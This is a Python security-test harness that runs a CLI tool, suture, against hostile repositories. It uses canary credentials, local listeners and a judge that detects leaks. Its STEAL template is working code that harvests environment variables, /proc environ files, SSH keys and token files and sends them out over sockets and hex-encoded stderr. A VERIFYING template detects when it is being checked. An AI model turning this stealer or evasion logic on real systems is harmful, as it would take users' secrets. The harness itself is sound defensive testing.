"""The security lab: canaries everywhere, the real CLI against a hostile repository, and a judge.

A `Lab` is one attack's world, made fresh for each test:

- a fake $HOME whose credential files (.netrc, ~/.ssh, gh's hosts file, .git-credentials, ...)
  and token variables (GITHUB_TOKEN, OPENAI_API_KEY, CI_JOB_JWT, DATABASE_URL, ...) hold
  unique canary strings; a canary http.extraheader in the checkout's .git/config;
- a loopback TCP listener and a Unix socket outside /tmp and /run that record every
  connection; a loot directory and sentinel files outside the worktree;
- the user's checkout (a real git repository) snapshotted before suture runs.

`Lab.judge(evidence)` lists everything that went wrong: a canary (raw, hex or reversed) in
anything suture printed or wrote (stdout, stderr, proposals, its branches' commits, crash
logs), a connection, a file written outside, a changed sentinel or checkout, a crash (exit 3),
a hang, a process left running. An empty list is a held attack. Every attack also runs a
control (the same payload without the protection) where the judge must find something.

The lab lives outside /tmp, /run and the homes when it can (a checkout in /builds or
/github/workspace is as visible to the sandbox as one in /srv), so that what the sandbox
shows of the machine is really tested.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import resource
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SUTURE_EXIT_CODES = (0, 1, 2)  # README: fixed, no fix, usage; 3 is a crash
HANG_SECONDS = 150.0  # a run this long is a hang: its process group is killed
MEMORY_CAP = 4 * 1024**3  # address space of every process a lab starts: a runaway read fails, the machine survives
OBJECTS_GROWTH = 20 * 1024**2  # bytes the user's .git/objects may grow by in one run
TOKEN_VARIABLES = (
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "GITLAB_TOKEN",
    "GITEA_TOKEN",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "NPM_TOKEN",
    "CI_JOB_JWT",
    "DATABASE_URL",
    "DOCKER_AUTH_CONFIG",
    "SLACK_WEBHOOK_URL",
    "SENTRY_DSN",
)
HOME_FILES = {
    ".netrc": "machine github.com login x-access-token password {canary}\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n{canary}\n-----END OPENSSH PRIVATE KEY-----\n",
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: {canary}\n    user: someone\n",
    ".git-credentials": "https://someone:{canary}@github.com\n",
    ".aws/credentials": "[default]\naws_secret_access_key = {canary}\n",
    ".docker/config.json": '{{"auths": {{"registry.example": {{"auth": "{canary}"}}}}}}\n',
    ".pypirc": "[pypi]\nusername = __token__\npassword = {canary}\n",
}
ALLOWED_HOME_WRITES = (".cache/suture",)  # suture's own crash logs (a crash is judged by its exit code)
SENTINEL = "do not touch: the user's own file outside every worktree\n"


# --- where the lab lives ---------------------------------------------------------------------

HIDDEN_ROOTS = ("/tmp", "/var/tmp", "/run", "/home", "/root", "/dev")


def outside_root() -> Path:
    """A writable directory outside what the sandbox hides, like a CI's /builds; else the temp dir."""
    configured = os.environ.get("SUTURE_SECURITY_ROOT")
    candidates = [configured] if configured else []
    candidates += ["/srv", "/mnt", "/var/lib", str(Path(__file__).resolve().parents[2] / ".pytest_cache")]
    for candidate in candidates:
        path = Path(candidate)
        real = os.path.realpath(path)
        if any(real == root or real.startswith(root + "/") for root in HIDDEN_ROOTS):
            continue
        if path.is_dir() and os.access(path, os.W_OK | os.X_OK):
            return path
    return Path(tempfile.gettempdir())


# --- listeners -------------------------------------------------------------------------------


class Listener:
    """A socket server that records every connection and the first bytes each sent."""

    def __init__(self, server: socket.socket, address: str) -> None:
        self.address = address
        self.received: list[bytes] = []
        self._server = server
        self._server.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @classmethod
    def tcp(cls) -> Listener:
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.bind(("127.0.0.1", 0))
        server.listen(64)
        return cls(server, f"127.0.0.1:{server.getsockname()[1]}")

    @classmethod
    def unix(cls, path: Path) -> Listener:
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(str(path))
        server.listen(64)
        return cls(server, str(path))

    @property
    def port(self) -> int:
        return int(self.address.rsplit(":", 1)[1])

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                peer, _ = self._server.accept()
            except OSError:
                continue
            with peer:
                peer.settimeout(1.0)
                self.received.append(_read_some(peer))

    def settle(self) -> None:
        time.sleep(0.3)  # a connection made at the very end is accepted before the judge looks

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._server.close()


def _read_some(peer: socket.socket) -> bytes:
    chunks: list[bytes] = []
    with contextlib.suppress(OSError):
        while sum(map(len, chunks)) < 65536:
            chunk = peer.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    return b"".join(chunks) or b"(connected, sent nothing)"


# --- evidence --------------------------------------------------------------------------------


@dataclass
class Evidence:
    """What a run left: its exit code (None: it hung and was killed), output, and its JSON answer."""

    argv: tuple[str, ...]
    returncode: int | None
    stdout: str
    stderr: str
    seconds: float
    left_running: bool = False
    extra: dict[str, str] = field(default_factory=dict)  # more texts suture produced, by where

    @property
    def hung(self) -> bool:
        return self.returncode is None

    @property
    def answer(self) -> dict[str, Any]:
        for line in reversed(self.stdout.strip().splitlines()):
            with contextlib.suppress(json.JSONDecodeError):
                found = json.loads(line)
                if isinstance(found, dict):
                    return found
        return {}

    def brief(self) -> str:
        return (
            f"$ {' '.join(self.argv)}\nexit {self.returncode} in {self.seconds:.1f}s\n"
            f"--- stdout (tail)\n{self.stdout[-3000:]}\n--- stderr (tail)\n{self.stderr[-3000:]}"
        )


# --- the lab ---------------------------------------------------------------------------------


class Lab:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.loot = root / "loot"
        self.sentinels = root / "sentinel"
        self.checkout = root / "checkout"
        self.state = root / "state"  # the attacker's notes between runs, when it can write them (a finding)
        tag = secrets.token_hex(6)
        self.canaries = {name: f"sutcan{name.lower().replace('_', '')}{tag}" for name in TOKEN_VARIABLES}
        self.canaries |= {
            f"home:{rel}": f"sutcan{rel.strip('.').replace('/', '').replace('.', '')}{tag}" for rel in HOME_FILES
        }
        self.canaries["extraheader"] = f"sutcanextraheader{tag}"
        for directory in (self.home, self.loot, self.sentinels):
            directory.mkdir(parents=True)
        self._write_home()
        (self.sentinels / "precious.txt").write_text(SENTINEL, encoding="utf-8")
        (self.root / "sock").mkdir()
        self.tcp = Listener.tcp()
        self.unix = Listener.unix(self.root / "sock" / "agent.sock")
        self.env = self._environment()
        self._before: dict[str, Any] = {}

    # --- the world around the repository

    def _write_home(self) -> None:
        for rel, template in HOME_FILES.items():
            path = self.home / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(template.format(canary=self.canaries[f"home:{rel}"]), encoding="utf-8")
        (self.home / ".gitconfig").write_text(
            "[user]\n\tname = Lab User\n\temail = lab@example.com\n[init]\n\tdefaultBranch = main\n", encoding="utf-8"
        )

    def _environment(self) -> dict[str, str]:
        keep = ("PATH", "LANG", "LC_ALL", "TERM", "TZ", "PYTHONHASHSEED", "SYSTEMROOT")
        env = {name: os.environ[name] for name in keep if name in os.environ}
        env |= {name: self.canaries[name] for name in TOKEN_VARIABLES}
        env["DATABASE_URL"] = f"postgres://app:{self.canaries['DATABASE_URL']}@db.internal/app"
        env |= {
            "HOME": str(self.home),
            "XDG_CACHE_HOME": str(self.home / ".cache"),
            "XDG_CONFIG_HOME": str(self.home / ".config"),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_AUTHOR_NAME": "Lab User",
            "GIT_AUTHOR_EMAIL": "lab@example.com",
            "GIT_COMMITTER_NAME": "Lab User",
            "GIT_COMMITTER_EMAIL": "lab@example.com",
            "PYTHONDONTWRITEBYTECODE": "1",
        }
        if os.environ.get("SUTURE_SECURITY_SRC"):  # another copy of suture's source to attack (a commit's)
            env["PYTHONPATH"] = os.environ["SUTURE_SECURITY_SRC"]
        return env

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()

    # --- the user's checkout

    def repo(
        self,
        files: Mapping[str, str | bytes],
        *,
        executable: Sequence[str] = (),
        symlinks: Mapping[str, str] = {},
        config: Mapping[str, str] = {},
        message: str = "a pull request",
    ) -> Path:
        """The user's checkout: `files` committed (a hostile commit), with credentials in .git/config."""
        repo = self.checkout
        repo.mkdir(exist_ok=True)
        git(repo, "init", "-q", "-b", "main", env=self.env)
        for rel, content in files.items():
            path = repo / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(content, encoding="utf-8")
        for rel in executable:
            (repo / rel).chmod(0o755)
        for rel, target in symlinks.items():
            (repo / rel).parent.mkdir(parents=True, exist_ok=True)
            os.symlink(target, repo / rel)
        header = f"AUTHORIZATION: bearer {self.canaries['extraheader']}"
        git(repo, "config", "http.https://github.com/.extraheader", header, env=self.env)
        for key, value in config.items():
            git(repo, "config", key, value, env=self.env)
        git(repo, "add", "-A", env=self.env)
        git(repo, "commit", "-q", "-m", message, env=self.env)
        return repo

    # --- payloads: what an attacker's code does wherever it runs

    def steal_py(self, tag: str, extra: Sequence[str] = (), *, unix: bool = True) -> str:
        """Python that gathers every secret it can reach and sends it on every channel it can find
        (the lab's Unix socket too, unless `unix` is False: a probe for one leak tries no other)."""
        files = [str(self.home / rel) for rel in HOME_FILES] + [str(self.checkout / ".git" / "config"), *extra]
        return STEAL.format(
            tag=tag,
            files=files,
            port=self.tcp.port,
            unix=self.unix.address if unix else str(self.root / "no-such-socket"),
            loot=str(self.loot),
        )

    def probe_test(self, tag: str, extra: Sequence[str] = (), *, unix: bool = False) -> str:
        """A test module that hunts for secrets and fails, naming what it found (hex-encoded) if any."""
        return self.steal_py(tag, extra, unix=unix) + PROBE.format(tag=tag)

    def steal_sh(self, tag: str) -> str:
        """Shell lines that run `steal_py` (for scripts posing as interpreters and tools)."""
        return f"python3 - <<'SUTURE_STEAL' >/dev/null 2>&1 || true\n{self.steal_py(tag)}\nSUTURE_STEAL\n"

    # --- running things

    def suture(
        self,
        *args: str,
        cwd: Path | None = None,
        env: Mapping[str, str] = {},
        input: str | None = None,
        timeout: float = HANG_SECONDS,
    ) -> Evidence:
        """The real CLI, in its own process group, with the canary environment and a hard timeout."""
        return self.host([sys.executable, "-m", "suture", *args], cwd=cwd, env=env, input=input, timeout=timeout)

    def host(
        self,
        argv: Sequence[str],
        *,
        cwd: Path | None = None,
        env: Mapping[str, str] = {},
        input: str | None = None,
        timeout: float = HANG_SECONDS,
    ) -> Evidence:
        """Any command on the host with the canary environment (the controls run payloads so)."""
        if not self._before:
            self.take_snapshot()
        start = time.monotonic()
        proc = subprocess.Popen(
            list(argv),
            cwd=cwd or self.checkout,
            env={**self.env, **env},
            stdin=subprocess.PIPE if input is not None else subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            start_new_session=True,
            preexec_fn=_cap_memory,
        )
        try:
            out, err = proc.communicate(input=None if input is None else input.encode(), timeout=timeout)
            code: int | None = proc.returncode
        except subprocess.TimeoutExpired:
            _kill_group(proc.pid)
            out, err = proc.communicate()
            code = None
        left = _group_alive(proc.pid)
        if left:
            _kill_group(proc.pid)
        return Evidence(
            tuple(str(a) for a in argv),
            code,
            out.decode("utf-8", "replace"),
            err.decode("utf-8", "replace"),
            time.monotonic() - start,
            left_running=left,
        )

    def python(self, code: str, *, timeout: float = 30) -> Evidence:
        """Python code on the host: a control's unprotected reader; an uncaught exception exits 3 (a crash)."""
        wrapped = (
            f"import sys, traceback\ntry:\n    exec({code!r})\n"
            "except BaseException:\n    traceback.print_exc()\n    sys.exit(3)\n"
        )
        script = Path(tempfile.mkstemp(suffix=".py", dir=self.root)[1])  # a file: argv is capped at 128 KiB
        script.write_text(wrapped, encoding="utf-8")
        return self.host([sys.executable, str(script)], timeout=timeout)

    # --- the judge

    def take_snapshot(self) -> None:
        self._before = {
            "outside": _tree_state(self.home, self.sentinels, self.loot, self.state, self.root / "sock"),
            "checkout": self.checkout_state(),
            "objects": _size(self.checkout / ".git" / "objects"),
        }

    def checkout_state(self) -> dict[str, Any]:
        """Everything of the user's checkout that suture promises not to change."""
        repo = self.checkout
        if not (repo / ".git").exists():
            return {}
        dot = repo / ".git"
        refs = git(repo, "for-each-ref", "--format=%(refname) %(objectname)", env=self.env, check=False)
        return {
            "files": _tree_state(*[p for p in repo.iterdir() if p.name != ".git"]),
            "index": _digest(dot / "index"),
            "HEAD": _digest(dot / "HEAD"),
            "config": _digest(dot / "config"),
            "hooks": _tree_state(dot / "hooks"),
            "info": _tree_state(dot / "info"),
            "refs": sorted(line for line in refs.splitlines() if not line.startswith("refs/heads/suture/")),
        }

    def judge(self, evidence: Evidence) -> list[str]:
        """Everything that went wrong in the run that left `evidence`; [] when the attack was held."""
        self.tcp.settle()
        findings: list[str] = []
        if evidence.hung:
            findings.append(f"hang: killed after {evidence.seconds:.0f}s")
        elif evidence.returncode not in SUTURE_EXIT_CODES:
            findings.append(f"exit code {evidence.returncode} (3 is a crash)")
        elif "Traceback (most recent call last)" in evidence.stderr:
            findings.append("a traceback on stderr (a crash)")
        elif "--json" in evidence.argv and evidence.returncode != 2 and not evidence.answer:
            findings.append("no JSON answer on the last line of stdout")
        if evidence.left_running:
            findings.append("processes left running in suture's process group after it exited")
        findings += [f"connection to the TCP listener: {data[:120]!r}" for data in self.tcp.received]
        findings += [f"connection to the Unix socket: {data[:120]!r}" for data in self.unix.received]
        findings += self._leaks(evidence)
        findings += _changes("outside the worktree", self._before["outside"], self._outside_now())
        findings += _changes("the user's checkout", self._before["checkout"], self.checkout_state())
        grown = _size(self.checkout / ".git" / "objects") - self._before["objects"]
        if grown > OBJECTS_GROWTH:
            findings.append(f"the user's .git/objects grew by {grown // 2**20} MiB")
        return findings

    def _outside_now(self) -> dict[str, tuple[str, int]]:
        now = _tree_state(self.home, self.sentinels, self.loot, self.state, self.root / "sock")
        return {path: state for path, state in now.items() if not _allowed_home_write(path, self.home)}

    def _leaks(self, evidence: Evidence) -> list[str]:
        texts = {"stdout": evidence.stdout, "stderr": evidence.stderr, **evidence.extra, **self.products()}
        found = []
        for where, text in texts.items():
            for name, canary in self.canaries.items():
                for form, needle in _forms(canary).items():
                    if needle in text:
                        found.append(f"canary {name} ({form}) in {where}")
        return found

    def products(self) -> dict[str, str]:
        """What suture wrote for others to read: proposals, its branches' commits, crash logs."""
        texts: dict[str, str] = {}
        suture_dir = self.checkout / ".git" / "suture"
        if suture_dir.is_dir():
            for path in sorted(suture_dir.rglob("*")):
                if path.is_file() and not path.is_symlink():
                    texts[str(path.relative_to(self.checkout))] = path.read_text("utf-8", "replace")
        if (self.checkout / ".git").exists():
            texts["suture branches"] = git(
                self.checkout, "log", "-p", "--branches=suture/*", "--format=%H%n%B", env=self.env, check=False
            )
            texts["refs"] = git(self.checkout, "for-each-ref", "--format=%(refname)", env=self.env, check=False)
        crashes = self.home / ".cache" / "suture"
        if crashes.is_dir():
            for path in sorted(crashes.glob("*")):
                texts[f"crash log {path.name}"] = path.read_text("utf-8", "replace") if path.is_file() else ""
        return texts


STEAL = '''\
import os, pathlib, re, socket, sys


def _suture_steal(tag):
    """Gather the environment, every /proc/*/environ and the credential files; send them everywhere."""
    seen = [tag, "\\n".join(f"{{k}}={{v}}" for k, v in sorted(os.environ.items()))]
    for name in {files!r} + [str(p) for p in pathlib.Path("/proc").glob("[0-9]*/environ")]:
        try:
            seen.append(pathlib.Path(name).read_bytes().decode("utf-8", "replace"))
        except OSError:
            pass
    data = "\\n".join(seen)
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, {unix!r})):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(2)
                sock.connect(address)
                sock.sendall(data.encode())
        except OSError:
            pass
    try:
        pathlib.Path({loot!r}, tag).write_text(data)
    except OSError:
        pass
    # Out through the output too, hex-encoded past any redactor: only what looks like a secret.
    found = sorted(set(re.findall("sutcan[a-z0-9]+", data)))
    if found:
        sys.stderr.write("LOOT " + " ".join(word.encode().hex() for word in found) + "\\n")
    return found


_suture_steal({tag!r})
'''


PROBE = """

def test_probe():
    found = _suture_steal({tag!r})
    assert not found, "LOOT " + " ".join(word.encode().hex() for word in found)
"""


def phase_probe(lab: Lab) -> str:
    """Python defining `_verifying()`: whether this run is suture's verification rather than its capture.

    Through the channels suture gives away (its plugin's variables), and, where the code can keep
    notes between runs (no sandbox), by counting: the first test run is the capture.
    """
    return VERIFYING.format(state=str(lab.state))


VERIFYING = """\
import os, pathlib


def _verifying():
    first = os.environ.get("SUTURE_PYTEST_FIRST", "")
    try:
        if first and pathlib.Path(first).read_text().strip():
            return True
    except OSError:
        pass
    if os.environ.get("SUTURE_PYTEST_HOLD"):
        return True
    state = pathlib.Path({state!r})
    try:
        state.mkdir(exist_ok=True)
        runs = len(list(state.iterdir()))
        (state / str(os.getpid())).write_text("")
        return runs > 0
    except OSError:
        return False
"""


# --- small pieces ----------------------------------------------------------------------------


def git(repo: Path, *args: str, env: Mapping[str, str], check: bool = True) -> str:
    done = subprocess.run(["git", *args], cwd=repo, env=dict(env), capture_output=True, text=True, errors="replace")
    if check and done.returncode != 0:
        raise RuntimeError(f"git {' '.join(args)}: {done.stderr}")
    return done.stdout


def _cap_memory() -> None:
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def _kill_group(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(pid, signal.SIGKILL)


def _group_alive(pid: int) -> bool:
    time.sleep(0.1)
    try:
        os.killpg(pid, 0)
    except (ProcessLookupError, PermissionError):
        return False
    return True


def _forms(canary: str) -> dict[str, str]:
    return {"raw": canary, "hex": canary.encode().hex(), "reversed": canary[::-1]}


def _digest(path: Path) -> str:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "(absent)"
    except OSError as exc:
        return f"(unreadable: {exc})"


def _tree_state(*roots: Path) -> dict[str, tuple[str, int]]:
    """path -> (content digest or link target, mtime in ns) for every entry under `roots`, links not followed."""
    state: dict[str, tuple[str, int]] = {}
    for root in roots:
        for path in _walk(root):
            info = path.lstat()
            if path.is_symlink():
                state[str(path)] = (f"link to {os.readlink(path)}", info.st_mtime_ns)
            elif path.is_file():
                state[str(path)] = (_digest(path), info.st_mtime_ns)
            elif not path.is_dir():
                state[str(path)] = ("special file", info.st_mtime_ns)
    return state


def _walk(root: Path) -> Iterator[Path]:
    if not os.path.lexists(root):
        return
    yield root
    if root.is_dir() and not root.is_symlink():
        for dirpath, dirnames, filenames in os.walk(root):
            for name in dirnames + filenames:
                yield Path(dirpath, name)


def _changes(where: str, before: Mapping[str, Any], after: Mapping[str, Any]) -> list[str]:
    found = []
    for key in sorted(set(before) | set(after)):
        if key not in after:
            found.append(f"{where}: {key} removed")
        elif key not in before:
            found.append(f"{where}: {key} created")
        elif before[key] != after[key]:
            found.append(f"{where}: {key} changed")
    return found


def _allowed_home_write(path: str, home: Path) -> bool:
    return any(Path(path).is_relative_to(home / allowed) for allowed in ALLOWED_HOME_WRITES)


def _size(root: Path) -> int:
    total = 0
    for dirpath, _, filenames in os.walk(root):
        for name in filenames:
            with contextlib.suppress(OSError):
                total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
    return total


def make_lab() -> Iterator[Lab]:
    root = Path(tempfile.mkdtemp(prefix="suture-sec-", dir=outside_root()))
    lab = Lab(root)
    try:
        yield lab
    finally:
        lab.close()
        _remove(root)


def _remove(root: Path) -> None:
    """Remove a lab, whatever an attack left in it (read-only or deeply nested directories)."""
    for dirpath, dirnames, _ in os.walk(root):
        for name in dirnames:
            with contextlib.suppress(OSError):
                os.chmod(os.path.join(dirpath, name), 0o755)
    shutil.rmtree(root, ignore_errors=True)


Check = Callable[[Lab, Evidence], list[str]]
